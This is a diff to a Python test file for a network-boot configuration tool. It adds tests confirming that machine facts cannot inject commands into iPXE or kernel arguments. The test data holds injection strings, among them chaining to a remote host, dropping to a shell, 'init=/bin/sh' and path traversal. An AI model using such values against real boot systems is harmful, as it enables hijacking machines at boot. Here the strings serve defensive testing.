@@ -138,9 +138,9 @@ def test_an_image_gives_the_kernel_the_first_initrd_and_the_root() -> None:
 
     assert lines[3] == "#   image debian-13:4  from boot.yaml:4:18 (base)"
     assert lines[-8:-6] == [
-        "kernel files/images/debian-13/4/kernel initrd=initrd0 initrd=initrd1 boot=ordain "
+        "kernel files/images/debian-13/4/kernel initrd=initrd0 initrd=initrd1 quiet boot=ordain "
         f"ordain.root=${{cwduri}}files/images/debian-13/4/root ordain.root.sha256={'ab' * 32} ordain.root.size=7 "
-        "ordain.root.memory=9 quiet || goto failed",
+        "ordain.root.memory=9 || goto failed",
         "initrd --name initrd0 files/images/debian-13/4/initrd || goto failed",
     ]
     assert lines[-6] == "initrd --name initrd1 files/site.cpio || goto failed"
@@ -237,6 +237,38 @@ def test_a_value_that_ipxe_or_the_kernel_would_change_is_refused(netboot: str, p
     assert problem.where.path == "boot.yaml"
     assert problem.where.pointer.startswith(pointer)
     assert what in problem.what
+
+
+@pytest.mark.parametrize(
+    ("key", "sent"),
+    [
+        *(("kernel", text) for text in ("x || chain http://192.0.2.66/", "x y", "${uuid}", "../../x")),
+        *(("initrds", text) for text in ("x || shell", "../x")),
+        *(("image", text) for text in ("debian:1 x", "../debian", "debian:0")),
+        *(
+            ("arguments", f"x {word}")
+            for word in ("ordain.root=http://192.0.2.66/", "rd.break", "init=/bin/sh", "break")
+        ),
+        *(("arguments", text) for text in ("x || shell", "x ' root=/dev/sdb", "${uuid}")),
+    ],
+)
+def test_a_fact_that_somebody_sends_does_not_command_ipxe_or_the_initrd(key: str, sent: str) -> None:
+    template = "{template: '{{ facts.system_serial_number }}'}"
+    netboot = {
+        "kernel": f"{{kernel: {template}}}",
+        "initrds": f"{{kernel: k, initrds: [{template}]}}",
+        "image": f"{{image: {template}}}",
+        "arguments": f"{{kernel: k, arguments: {{serial: {template}}}}}",
+    }[key]
+    text = f"ordain: v1\nkind: Layer\nname: base\nnetboot: {netboot}\n"
+    machine = facts_of_query({"mac": MAC, "serial": sent})
+    assert machine is not None
+
+    target, problems = resolve_netboot(netboot_documents(documents(text)), machine)
+
+    assert target is None
+    (problem,) = problems
+    assert problem.where.pointer.startswith(f"netboot/{key}")
 
 
 @pytest.mark.parametrize(
